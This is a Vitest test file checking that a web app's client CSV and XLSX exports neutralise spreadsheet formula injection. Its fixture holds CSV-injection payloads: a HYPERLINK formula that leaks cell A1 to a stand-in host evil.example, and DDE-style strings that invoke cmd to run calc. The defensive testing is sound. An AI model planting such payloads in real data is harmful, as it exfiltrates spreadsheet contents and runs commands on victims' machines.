import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCompany, type TestUser } from '../support/factories.js';
import { buildClient } from '../support/finance-factories.js';
import { startHarness, type Harness } from '../support/harness.js';

/** DECISIONS §14: no CSV the product writes hands a spreadsheet a formula. */

let h: Harness;
let cid: string;
let owner: TestUser;
const url = (path: string) => `/api/companies/${cid}${path}`;

beforeAll(async () => {
  h = await startHarness();
  ({ id: cid, owner } = await buildCompany(h));
  const type = await owner.api.post(url('/entityTemplate'), {
    name: '@Type',
    descriptions: [
      { description: 'note', label: '=Note', type: 'text' },
      { description: 'count', label: 'Count', type: 'number' },
    ],
  });
  expect(type.status).toBe(200);
  await buildClient(owner.api, cid, {
    name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    surname: "+cmd|' /C calc'!A0",
    email: '',
    phone: '-2+3+cmd|x',
    contactNumber: '=1+1',
    address: '@SUM(1+1)*cmd|x',
    entityTemplateId: type.body._id,
    fields: { note: '\r=2+2', count: -5 },
  });
});
afterAll(() => h.close());

describe('client export', () => {
  it('neutralises text cells that a spreadsheet would run, and keeps numbers', async () => {
    const r = await owner.api.get(url('/entities/export?format=csv'));
    expect(r.status).toBe(200);
    const [header, row] = (r.body as Buffer).toString('utf8').slice(1).split('\r\n');
    expect(header).toMatch(/;clientType;'=Note;Count$/);
    const cells = row!.split(';');
    expect(cells[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    expect(cells.slice(2, 7)).toEqual([
      `'+cmd|' /C calc'!A0`,
      '',
      `'-2+3+cmd|x`,
      `'=1+1`,
      `'@SUM(1+1)*cmd|x`,
    ]);
    expect(cells[10]).toBe('0.00');
    expect(cells.slice(12)).toEqual([`'@Type`, `"'\r=2+2"`, '-5']);
  });

  it('writes the workbook as values, never formulas', async () => {
    const r = await owner.api.get(url('/entities/export?format=xlsx'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.body as never);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(2).getCell(2).value).toBe(
      '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    );
    ws.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
